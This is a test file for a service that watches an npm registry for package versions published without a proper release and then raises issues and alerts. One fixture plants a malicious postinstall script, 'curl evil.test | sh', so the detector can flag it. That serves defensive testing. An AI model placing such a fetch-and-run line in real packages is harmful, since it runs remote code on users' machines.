import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { createChannelDesk } from "../../src/desk/channels/index.ts";
import { askWatchPass } from "../../src/desk/out-of-band/ask.ts";
import { watchPass } from "../../src/desk/out-of-band/pass.ts";
import type { Sighting, Watch } from "../../src/domain/out-of-band/types.ts";
import { createLog } from "../../src/settings/log.ts";
import { startCountersign } from "../../src/start.ts";
import { channelParts } from "../support/channels.ts";
import { startReceiver } from "../support/receiver.ts";
import type { Receiver } from "../support/receiver.ts";
import { Story } from "../support/story.ts";
import { policy } from "../world/cast.ts";
import type { IssueState, UserState } from "../world/github/state.ts";

const minute = 60_000;
const name = "@acme/widget";

let story: Story;
let slack: Receiver;

beforeAll(async () => {
  story = await Story.open();
  slack = await startReceiver();
  const { dave, widget } = story.cast;
  await story.app.parts.store.people.see({ id: dave.id, login: "dave" }, story.clock.now());
  await createChannelDesk(channelParts(story)).addChannel({
    ...{ person: { id: dave.id, login: "dave" }, place: { repositoryId: widget.id }, kind: "slack", name: "team" },
    address: `${slack.url}/services/T1/team/x`,
  });
});

afterAll(async () => {
  await story.close();
  await slack.close();
  story.judge.assertClean();
});

beforeEach(() => {
  slack.received.length = 0;
});

/** The clockwork asks after a while, and all that follows happens. */
async function look(ms = 5 * minute): Promise<void> {
  story.clock.advance(ms);
  await askWatchPass(story.app.parts);
  await story.settle();
}

const until = (at: Date): number => at.getTime() - story.clock.now().getTime();

const watch = async (): Promise<Watch> => {
  const found = await story.app.parts.store.watches.of(story.cast.widget.id, name);
  if (found === null) throw new Error("the package isn't watched");
  return found;
};
const sightings = async (version: string): Promise<Sighting[]> =>
  (await story.app.parts.store.sightings.recent([story.cast.widget.id], 100)).filter((one) => one.version === version);
const ours = (): IssueState[] =>
  [...story.cast.widget.issues.values()].filter((one) => one.userId === story.cast.app.botId);
const issue = (): IssueState => {
  expect(ours().length).toBe(1);
  return ours()[0] as IssueState;
};
const heard = (): string[] => slack.received.map(({ body }) => (JSON.parse(body) as { text: string }).text);
const audited = async (): Promise<string[]> => {
  const ask = { repositoryIds: [story.cast.widget.id], filter: { what: "out-of-band." }, before: null, limit: 100 };
  return (await story.app.parts.store.audit.page(ask)).map(
    ({ what, detail }) => `${what} ${String(detail["version"])}`,
  );
};
function push(text: string): void {
  const { widget, dave } = story.cast;
  story.github.commit(widget, dave.id, { ".github/countersign.yml": text }, `policy ${text.length}`);
}
async function say(by: UserState, body: string): Promise<string> {
  await story.say(by, body);
  return story.lastWords();
}

describe("what appears at the registry without a release", () => {
  test("is no news at the first look, nor while nothing happens: a 304 each time", async () => {
    await look(0);
    expect((await watch()).known).toEqual({ versions: ["1.0.0"], tags: { latest: "1.0.0" } });
    story.registry.answered.length = 0;
    await look();
    await look(4 * minute);
    expect(story.registry.answered).toEqual([304]);
    expect(await sightings("1.0.0")).toEqual([]);
    expect([ours(), heard()]).toEqual([[], []]);
  });

  test("is nothing of ours: a release that goes live before it is verified, and stays so after", async () => {
    await story.untilRunning("1.2.0");
    story.registry.write(name, "1.2.0");
    await look();
    expect((await story.release()).state).toBe("running");
    await story.finishJob("success", "1.2.0");
    await story.pass(30_000, 4);
    expect((await story.release()).state).toBe("published");
    await look();
    expect((await watch()).known?.versions).toEqual(["1.0.0", "1.2.0"]);
    expect(await sightings("1.2.0")).toEqual([]);
    expect(ours()).toEqual([]);
  });

  test("becomes an issue that calls people, a message and a line on the page, with all that is odd", async () => {
    slack.received.length = 0;
    story.registry.write(name, "1.2.1", "latest", {
      publisher: "mallory",
      manifest: { gitHead: "c0ffee".padEnd(40, "0"), scripts: { postinstall: "curl evil.test | sh" } },
    });
    await look();
    const [sighting] = await sightings("1.2.1");
    expect(sighting).toMatchObject({ verdict: "odd", acknowledgedAt: null });
    expect(sighting?.oddities.map(({ code }) => code)).toEqual(["other-publisher", "install-script", "no-source"]);
    const { title, body } = issue();
    expect(title).toBe("@acme/widget changed at the registry without a release");
    expect(body).toMatch(/^@alice @carol @bob @dave @acme\/maintainers: `@acme\/widget` changed at its registry/);
    expect(body).toContain("- The npm user `mallory` published it, who is no releaser's npm user here");
    expect(body).toContain("- A new `postinstall` script runs when it is installed: `curl evil.test | sh`.");
    expect(body).toContain("npm dist-tag add '@acme/widget@1.2.0' latest");
    expect(body).toContain("npm unpublish '@acme/widget@1.2.1'");
    expect(body).toContain("`/expected 1.2.1 @acme/widget`");
    expect(heard()).toEqual([expect.stringContaining("Published without a release: @acme/widget@1.2.1.")]);
    expect(await audited()).toEqual(["out-of-band.noticed 1.2.1"]);
    // Nobody is called twice for the same.
    await look(60 * minute);
    expect(story.github.comments(story.cast.widget, issue())).toEqual([]);
    expect(heard().length).toBe(1);
  });

  test("of a package with an open issue is a comment there, once, however many instances look and judge at once", async () => {
    const { settings, secrets } = story.settings();
    const other = await startCountersign({
      ...{ settings: { ...settings, port: 0 }, secrets, clock: story.clock },
      log: createLog("error", { write: () => undefined }),
    });
    try {
      story.registry.write(name, "1.2.2", "latest", { publisher: "alice-npm" });
      story.clock.advance(60 * minute);
      await Promise.all([watchPass(story.app.parts), watchPass(other.parts)]);
      await Promise.all([story.app.worker.settle(), other.worker.settle()]);
      await story.settle();
    } finally {
      await other.stop();
    }
    expect((await sightings("1.2.2")).map(({ verdict }) => verdict)).toEqual(["odd"]);
    const comments = story.github.comments(story.cast.widget, issue());
    expect(comments.length).toBe(1);
    expect(comments[0]?.body).toContain("`@acme/widget@1.2.2` published as latest without a release.");
    expect(issue().body).toContain("| `1.2.2` | published as latest | `alice-npm` |");
    expect(heard().length).toBe(1);
    expect(await audited()).toEqual(["out-of-band.noticed 1.2.2", "out-of-band.noticed 1.2.1"]);
  });

  test("is over when a releaser or an admin says so, and the issue closes with the last of it", async () => {
    const { alice, bob, mallory, dave } = story.cast;
    expect(await say(bob, "/expected 1.2.2")).toMatch(/^Only somebody who may release `@\u200bacme\/widget`/);
    expect(await say(mallory, "/expected 1.2.2")).toMatch(/^Only somebody who may release/);
    expect(await say(alice, "/expected 9.9.9")).toMatch(/^No version `9.9.9` of this repository's packages was seen/);
    expect((await sightings("1.2.2"))[0]?.acknowledgedAt).toBeNull();
    expect(await say(alice, "/expected 1.2.2")).toMatch(/^Noted: `@acme\/widget@1.2.2` was one of you/);
    expect(issue().state).toBe("open");
    expect(issue().body).not.toContain("1.2.2`");
    expect(await say(alice, "/expected 1.2.2")).toMatch(/^alice said already that `1.2.2` was one of them/);
    await say(dave, "/expected 1.2.1 @acme/widget");
    expect(issue().state).toBe("closed");
    expect(issue().body).toContain("was acknowledged. This issue is opened again when something else does.");
    expect((await audited()).slice(0, 2)).toEqual(["out-of-band.acknowledged 1.2.1", "out-of-band.acknowledged 1.2.2"]);
  });

  test("comes later where the registry is down or has had enough, and nothing is lost by it", async () => {
    story.registry.fail.status = 503;
    await look(60 * minute);
    const down = await watch();
    expect(down).toMatchObject({ failures: 1, lastError: expect.stringContaining("503") as string });
    story.registry.fail.status = 429;
    story.registry.fail.retryAfter = "7200";
    story.registry.write(name, "1.2.3", "latest");
    story.registry.answered.length = 0;
    await look(until(down.nextAt) - 1);
    await look(1);
    await look(119 * minute);
    expect(story.registry.answered).toEqual([429]);
    story.registry.fail.status = null;
    delete story.registry.fail.retryAfter;
    await look(1 * minute);
    expect(story.registry.answered).toEqual([429, 200]);
    expect(await watch()).toMatchObject({ failures: 0, lastError: null });
    expect((await sightings("1.2.3")).map(({ verdict }) => verdict)).toEqual(["odd"]);
    expect(issue().state).toBe("open");
    await say(story.cast.alice, "/expected 1.2.3");
  });

  test("is told without GitHub's part of it where GitHub doesn't answer for minutes", async () => {
    story.github.core.faults.on({ operation: "repos/get-commit", status: 502, times: 100 });
    story.registry.write(name, "1.2.4", "latest");
    await look(60 * minute);
    expect((await sightings("1.2.4"))[0]?.verdict).toBe("noticed");
    await story.pass(3 * minute, 3);
    story.github.core.faults.clear();
    await story.pass(5 * minute);
    const [sighting] = await sightings("1.2.4");
    expect(sighting?.oddities.map(({ code }) => code)).toEqual(["source-unread"]);
    expect(issue().state).toBe("open");
    await say(story.cast.alice, "/expected 1.2.4");
  });

  test("undoing it calls nobody; `latest` on an older version and a version that is gone do", async () => {
    slack.received.length = 0;
    // What the issue advised.
    story.registry.tag(name, "latest", "1.2.0");
    story.registry.unpublish(name, "1.2.1");
    await look(60 * minute);
    expect((await sightings("1.2.0")).map(({ verdict }) => verdict)).toEqual(["expected"]);
    expect((await sightings("1.2.1")).map(({ what, verdict }) => [what, verdict])).toContainEqual([
      "unpublished",
      "expected",
    ]);
    expect(heard()).toEqual([]);
    story.registry.tag(name, "latest", "1.0.0");
    story.registry.unpublish(name, "1.2.0");
    await look(60 * minute);
    expect((await sightings("1.0.0"))[0]?.oddities.map(({ code }) => code)).toEqual(["tag-moved-back"]);
    expect((await sightings("1.2.0"))[0]).toMatchObject({ what: "unpublished", verdict: "odd" });
    expect(heard().length).toBe(2);
    await say(story.cast.alice, "/expected 1.0.0");
    await say(story.cast.alice, "/expected 1.2.0");
    expect(issue().state).toBe("closed");
  });

  test("is only on record where the policy expects local publishing, but not a stranger's, nor with a new script", async () => {
    const local = `    localPublishing: { by: dave, reason: "The 1.x line is published by hand.", until: 2027-12-31 }\n`;
    push(policy + local);
    await story.settle();
    expect((await watch()).policy.localPublishing).toMatchObject({ by: "dave", publishers: null });
    slack.received.length = 0;
    story.registry.write(name, "1.3.0", "latest");
    story.registry.write(name, "1.3.1", "latest", { publisher: "mallory" });
    story.registry.write(name, "1.3.2", "latest", { manifest: { scripts: { install: "node x.js" } } });
    await look(60 * minute);
    const verdicts = await Promise.all(
      ["1.3.0", "1.3.1", "1.3.2"].map(async (one) => (await sightings(one))[0]?.verdict),
    );
    expect(verdicts).toEqual(["expected", "odd", "odd"]);
    expect(heard().length).toBe(2);
    expect(await audited()).toContain("out-of-band.expected 1.3.0");
    expect(issue().body).not.toContain("1.3.0");
  });

  test("follows the policy: what it doesn't name any more isn't looked at, and back it begins anew", async () => {
    push(policy.replaceAll(name, "@acme/other"));
    await story.settle();
    expect((await watch()).removedAt).not.toBeNull();
    story.registry.write(name, "1.4.0", "latest");
    await look(60 * minute);
    push(policy);
    await story.settle();
    await look(0);
    expect(await watch()).toMatchObject({ removedAt: null, failures: 0 });
    expect(await sightings("1.4.0")).toEqual([]);
    story.registry.write(name, "1.4.1", "latest");
    await look(60 * minute);
    expect((await sightings("1.4.1")).length).toBe(1);
  });
});
